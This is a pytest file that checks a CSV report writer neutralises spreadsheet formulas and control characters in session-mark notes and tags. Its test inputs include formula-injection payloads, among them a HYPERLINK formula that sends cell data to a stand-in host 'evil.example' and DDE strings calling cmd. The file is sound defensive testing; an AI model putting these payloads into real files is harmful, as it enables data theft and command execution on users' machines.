"""marks.csv opens in a spreadsheet as text: no formula from a stick ever runs."""

from __future__ import annotations

import csv

import pytest

from appliance.unpack.report import MarkRow, spreadsheet_safe, write_marks_csv


def rows_of(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def mark(note: str, tag: str = "guiding", media_time: float = 1.5) -> MarkRow:
    return MarkRow(1, media_time, tag, note, "clips/mark-01.mp4", "thumbs/mark-01.jpg")


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_a_note_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(tmp_path, note):
    write_marks_csv(tmp_path / "marks.csv", [mark(note)])
    cell = rows_of(tmp_path / "marks.csv")[0]["note"]
    assert cell.startswith("'")
    assert cell[1:].strip() == note.strip()


def test_a_forged_tag_is_neutralised_too(tmp_path):
    write_marks_csv(tmp_path / "marks.csv", [mark("fine", tag="=1+1")])
    assert rows_of(tmp_path / "marks.csv")[0]["principle"] == "'=1+1"


def test_control_characters_become_spaces_and_rows_stay_whole(tmp_path):
    note = "line one\nline two\r\x1b[31mred\x00\x7f\u2028end"
    write_marks_csv(tmp_path / "marks.csv", [mark(note), mark("second")])
    text = (tmp_path / "marks.csv").read_text(encoding="utf-8")
    assert len(text.splitlines()) == 3  # the header and two marks, one line each
    rows = rows_of(tmp_path / "marks.csv")
    assert rows[0]["note"] == "line one line two  [31mred   end"
    assert rows[1]["note"] == "second"


@pytest.mark.parametrize(
    "text", ["Child smiles; mother waits", "1-2 turns", "e-mail: a@b", "Ça va ✨ 👨‍👩‍👧", ""]
)
def test_ordinary_notes_are_left_as_they_are(text):
    assert spreadsheet_safe(text) == text


def test_ordinary_marks_csv_is_unchanged(tmp_path):
    write_marks_csv(tmp_path / "marks.csv", [mark("Turn-taking at 0:12", media_time=12.25)])
    row = rows_of(tmp_path / "marks.csv")[0]
    assert row == {
        "time_in_session": "0:12",
        "seconds": "12.250",
        "principle": "guiding",
        "note": "Turn-taking at 0:12",
        "clip_file": "clips/mark-01.mp4",
    }
